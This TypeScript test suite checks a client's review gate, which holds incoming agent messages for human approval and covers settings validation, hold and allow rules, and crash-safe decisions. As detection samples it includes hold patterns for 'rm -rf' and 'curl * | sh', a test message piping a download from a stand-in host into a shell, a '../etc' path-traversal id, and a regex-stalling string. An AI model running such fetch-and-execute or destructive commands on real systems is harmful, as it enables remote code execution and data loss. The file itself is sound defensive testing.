// The review gate's files and rules (src/client/review.ts, ADR 0081), on real files: review.json
// read as the person wrote it (and held closed when it cannot be), the rules, a decision applied to
// a real profile's held/ and inbox/, and the order that makes a crash mid-decision safe.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { PapoError } from '../../src/client/errors.js';
import type { Envelope, LogEntry } from '../../src/client/messages.js';
import { openMemberState } from '../../src/client/profile-store.js';
import {
  applyDecision,
  compilePattern,
  countHeld,
  decidedIn,
  dropDecided,
  HELD_DIR,
  type HeldState,
  holds,
  matchesPattern,
  parseDecision,
  REVIEW_FILE,
  REVIEW_OFF,
  type ReviewDecision,
  ReviewGate,
  readHeld,
  readReviewSettings,
  requestDecision,
  takeReviewRequests,
  writeReviewSettings,
} from '../../src/client/review.js';
import { tempDir } from '../support/files.js';

let seq = 0;
function msg(from: string, body: string, kind: 'agent' | 'human' = 'agent'): Envelope {
  seq++;
  return {
    id: seq.toString(16).padStart(10, '0'),
    from,
    node: 'b'.repeat(64),
    kind,
    ts: 1_700_000_000_000 + seq,
    body,
  };
}

test('review.json: missing is off; written is read back, 0600; unreadable or malformed holds everything', async (t) => {
  const dir = tempDir(t, 'papo-review-');
  assert.deepEqual(readReviewSettings(dir), REVIEW_OFF);
  await writeReviewSettings(dir, { on: true, allow: ['colega'], allowPeople: true, hold: ['deploy'] });
  assert.deepEqual(readReviewSettings(dir), {
    on: true,
    allow: ['colega'],
    allowPeople: true,
    hold: ['deploy'],
  });
  assert.equal(statSync(join(dir, REVIEW_FILE)).mode & 0o777, 0o600);
  for (const bad of [
    '{',
    '[]',
    '{"on":"yes"}',
    '{"on":true,"allow":["not a name!"]}',
    '{"on":false,"hold":["*"]}',
  ]) {
    writeFileSync(join(dir, REVIEW_FILE), bad);
    const s = readReviewSettings(dir);
    assert.equal(s.on, true, bad);
    assert.equal(s.broken, bad === '{' ? 'not_json' : 'not_settings', bad);
    assert.equal(holds(s, msg('colega', 'hi')), true, bad);
  }
  // A link where review.json should be is not followed: everything is held.
  rmSync(join(dir, REVIEW_FILE));
  writeFileSync(join(dir, 'elsewhere.json'), '{"on":false}');
  symlinkSync(join(dir, 'elsewhere.json'), join(dir, REVIEW_FILE));
  const linked = readReviewSettings(dir);
  assert.equal(linked.on, true);
  assert.equal(linked.broken, 'link');
  // The person's command puts a real file there again; the link's target is left as it was.
  await writeReviewSettings(dir, { ...REVIEW_OFF, on: true });
  assert.deepEqual(readReviewSettings(dir), { on: true, allow: [], allowPeople: false, hold: [] });
  assert.equal(readFileSync(join(dir, 'elsewhere.json'), 'utf8'), '{"on":false}');
});

test('the rules: off holds nothing; on holds unless allowed; a hold pattern beats an allow', () => {
  const on = { on: true, allow: [], allowPeople: false, hold: [] };
  assert.equal(holds(REVIEW_OFF, msg('colega', 'deploy now')), false);
  assert.equal(holds({ ...REVIEW_OFF, hold: ['deploy'] }, msg('colega', 'deploy now')), false);
  assert.equal(holds(on, msg('colega', 'hi')), true);
  assert.equal(holds(on, msg('colega', 'hi', 'human')), true);
  // A named member: its agent and its person, any letter case.
  const allowColega = { ...on, allow: ['Colega'] };
  assert.equal(holds(allowColega, msg('colega', 'hi')), false);
  assert.equal(holds(allowColega, msg('colega', 'hi', 'human')), false);
  assert.equal(holds(allowColega, msg('terceiro', 'hi')), true);
  // People: every human sender, no agent.
  const people = { ...on, allowPeople: true };
  assert.equal(holds(people, msg('terceiro', 'hi', 'human')), false);
  assert.equal(holds(people, msg('terceiro', 'hi')), true);
  // A pattern (text, any letter case, spaces match any white space) holds even an allowed sender.
  const guarded = { ...allowColega, allowPeople: true, hold: ['rm -rf', 'production'] };
  assert.equal(holds(guarded, msg('colega', 'please RM \t -RF build/')), true);
  assert.equal(holds(guarded, msg('colega', 'Ship it to Production', 'human')), true);
  assert.equal(holds(guarded, msg('colega', 'the schema is in the PR')), false);
});

test('hold patterns: text in order with * between, any case and white space; linear on a hostile text', () => {
  const m = (pattern: string, text: string) => matchesPattern(compilePattern(pattern), text);
  assert.equal(m('curl * | sh', 'then CURL https://x.example/i.sh |\n sh'), true);
  assert.equal(m('curl * | sh', 'sh | curl https://x.example'), false);
  assert.equal(m('deploy*production', 'Deploy it to production'), true);
  assert.equal(m('deploy*production', 'production deploy'), false);
  // Regular-expression characters are text.
  assert.equal(m('(a|a)+$', 'aaaa'), false);
  assert.equal(m('(a|a)+$', 'see (A|a)+$ here'), true);
  for (const none of ['', '*', '* *', '   '])
    assert.throws(() => compilePattern(none), /empty/, JSON.stringify(none));
  assert.throws(() => compilePattern('x'.repeat(201)), /too_long/);
  // The shapes that stall a backtracking engine cost a few indexOf calls here.
  const hostile = 'a'.repeat(48 * 1024);
  assert.equal(m('a*a*a*a*a*a*a*a*a*a*b', hostile), false);
  assert.equal(m('aaaaaaaaaaaaaaaaaaaaaaaaaaaaab', hostile), false);
});

test('the gate reads review.json again when it changes, not before', async (t) => {
  const dir = tempDir(t, 'papo-review-');
  const logged: string[] = [];
  const gate = new ReviewGate(dir, (line) => logged.push(line));
  assert.equal(gate.reviewing(), false);
  await writeReviewSettings(dir, { on: true, allow: ['colega'], allowPeople: false, hold: [] });
  assert.equal(gate.reviewing(), true);
  assert.equal(gate.holds(msg('colega', 'hi')), false);
  assert.equal(gate.holds(msg('ana', 'hi')), true);
  writeFileSync(join(dir, REVIEW_FILE), 'not json at all');
  assert.equal(gate.holds(msg('colega', 'hi')), true);
  assert.match(logged.join('\n'), /every message is held until it is fixed/);
  rmSync(join(dir, REVIEW_FILE));
  assert.equal(gate.reviewing(), false);
});

test('a decision on a real profile: approved into the inbox, rejected out of held/, both logged; held/ is 0700, its files 0600', async (t) => {
  const dir = tempDir(t, 'papo-review-');
  const state = await openMemberState(dir);
  const [one, two, three] = [msg('colega', 'one'), msg('colega', 'two'), msg('ana', 'three')];
  for (const m of [one, two, three]) await state.addToHeld(m);
  assert.equal(statSync(join(dir, HELD_DIR)).mode & 0o777, 0o700);
  assert.equal(countHeld(dir), 3);
  assert.deepEqual(
    readHeld(dir).map((m) => m.body),
    ['one', 'two', 'three'],
  );
  const outcome = await applyDecision(state, { approve: [one.id], reject: [two.id], reason: 'not ours' }, 42);
  const idsOf = (list: readonly Envelope[]) => list.map((m) => m.id);
  assert.deepEqual(
    [
      idsOf(outcome.approved),
      idsOf(outcome.rejected),
      outcome.unknown,
      idsOf(state.inbox),
      idsOf(state.held),
    ],
    [[one.id], [two.id], [], [one.id], [three.id]],
  );
  assert.deepEqual(await state.readLogTail(10), [
    { ev: 'review', id: one.id, decision: 'approved', ts: 42 },
    { ev: 'review', id: two.id, decision: 'rejected', ts: 42, reason: 'not ours' },
  ]);
  // Decided already, or never held: reported, nothing else changes.
  const again = await applyDecision(state, { approve: [one.id], reject: ['ffffffffff'] }, 43);
  assert.deepEqual(again.unknown.sort(), ['ffffffffff', one.id].sort());
  assert.deepEqual(
    state.inbox.map((m) => m.id),
    [one.id],
  );
  // --all approves what is held, except what the same decision rejects.
  const all = await applyDecision(state, { approve: 'all', reject: [] }, 44);
  assert.deepEqual(
    all.approved.map((m) => m.id),
    [three.id],
  );
  assert.equal(countHeld(dir), 0);
  // Reopened from disk: the same.
  const reopened = await openMemberState(dir);
  assert.deepEqual(
    reopened.inbox.map((m) => m.id),
    [one.id, three.id],
  );
  assert.deepEqual(reopened.held, []);
  const ids = await reopened.inboundIds();
  assert.ok(ids.has(one.id) && ids.has(three.id));
});

test('a crash between the inbox and held/ leaves a copy in both: the next start drops the held one, never the unread one', async (t) => {
  const dir = tempDir(t, 'papo-review-');
  const state = await openMemberState(dir);
  const m = msg('colega', 'approved as papo stopped');
  const other = msg('colega', 'still held');
  await state.addToHeld(m);
  await state.addToHeld(other);
  await state.addToInbox(m); // the approval's first write, then the crash
  const reopened = await openMemberState(dir);
  await dropDecided(reopened, decidedIn(await reopened.readLogTail(100)), 7);
  assert.deepEqual([reopened.inbox.map((x) => x.id), reopened.held.map((x) => x.id)], [[m.id], [other.id]]);
  // The approval the crash kept out of the log is written, so history no longer says "held".
  assert.deepEqual(await reopened.readLogTail(10), [{ ev: 'review', id: m.id, decision: 'approved', ts: 7 }]);
  // Held ids count as stored: a copy sent again is acked, not stored twice.
  assert.ok((await reopened.inboundIds()).has(other.id));
});

test("a crash between a rejection's log line and held/: the next start finishes it; a decision both ways rejects", async (t) => {
  const dir = tempDir(t, 'papo-review-');
  const state = await openMemberState(dir);
  const [gone, both] = [msg('colega', 'rejected as papo stopped'), msg('colega', 'approved and rejected')];
  await state.addToHeld(gone);
  await state.addToHeld(both);
  await state.appendLog({ ev: 'review', id: gone.id, decision: 'rejected', ts: 1 });
  const reopened = await openMemberState(dir);
  await dropDecided(reopened, decidedIn(await reopened.readLogTail(100)), 2);
  assert.deepEqual(
    reopened.held.map((x) => x.id),
    [both.id],
  );
  assert.deepEqual(reopened.inbox, []);
  const outcome = await applyDecision(reopened, { approve: [both.id], reject: [both.id] }, 3);
  assert.deepEqual(
    [outcome.approved, outcome.rejected.map((x) => x.id), reopened.inbox],
    [[], [both.id], []],
  );
});

test('decisions left for papo mcp: applied oldest first; one it cannot apply yet stays, and those after it wait', async (t) => {
  const dir = tempDir(t, 'papo-review-');
  const first = await requestDecision(dir, { approve: ['0000000001'], reject: [] });
  await new Promise((r) => setTimeout(r, 5));
  const second = await requestDecision(dir, { approve: [], reject: ['0000000001'] });
  assert.equal(statSync(first).mode & 0o777, 0o600);
  const seen: ReviewDecision[] = [];
  let closing = true;
  const member = {
    decide: async (d: ReviewDecision) => {
      if (closing) throw new PapoError('io', 'the room member is closed');
      seen.push(d);
      return { approved: [], rejected: [], unknown: [], full: [] };
    },
  };
  await takeReviewRequests(dir, member, () => {});
  assert.deepEqual(seen, []);
  assert.ok(existsSync(first) && existsSync(second));
  closing = false;
  writeFileSync(join(dir, 'review-0000000000000-deadbeef.json'), 'not json');
  await takeReviewRequests(dir, member, () => {});
  assert.deepEqual(seen, [
    { approve: ['0000000001'], reject: [] },
    { approve: [], reject: ['0000000001'] },
  ]);
  assert.ok(!existsSync(first) && !existsSync(second));
  assert.ok(!existsSync(join(dir, 'review-0000000000000-deadbeef.json')));
});

test('approving into a full inbox keeps the message held, and a failing disk stops the decision before anything is released', async () => {
  const m = msg('colega', 'waiting');
  const log: LogEntry[] = [];
  const held = [m];
  const state: HeldState = {
    held,
    inbox: [],
    addToInbox: async () => {
      throw new PapoError('inbox_full', 'the inbox holds 1000 unread messages');
    },
    removeFromHeld: async (ids) => {
      for (const id of ids)
        held.splice(
          held.findIndex((x) => x.id === id),
          1,
        );
    },
    appendLog: async (e) => {
      log.push(e);
    },
  };
  const outcome = await applyDecision(state, { approve: [m.id], reject: [] }, 1);
  assert.deepEqual(
    outcome.full.map((x) => x.id),
    [m.id],
  );
  assert.deepEqual(outcome.approved, []);
  assert.deepEqual(held, [m]);
  assert.deepEqual(log, []);
  // Another failure is not swallowed, and the message stays held.
  state.addToInbox = async () => {
    throw new Error('EIO (injected)');
  };
  await assert.rejects(applyDecision(state, { approve: [m.id], reject: [] }, 2), /EIO/);
  assert.deepEqual(held, [m]);
});

test('a decision request: only well-formed ids and an optional reason; anything else is refused', () => {
  assert.deepEqual(parseDecision({ approve: ['0123456789'], reject: [] }), {
    approve: ['0123456789'],
    reject: [],
  });
  assert.deepEqual(parseDecision({ approve: 'all' }), { approve: 'all', reject: [] });
  assert.deepEqual(parseDecision({ reject: ['0123456789'], reason: 'no' }), {
    approve: [],
    reject: ['0123456789'],
    reason: 'no',
  });
  for (const bad of [
    null,
    'approve',
    [],
    { approve: ['../etc'] },
    { approve: 'some' },
    { reject: [1] },
    { reject: [], reason: 3 },
  ])
    assert.equal(parseDecision(bad), null, JSON.stringify(bad));
});
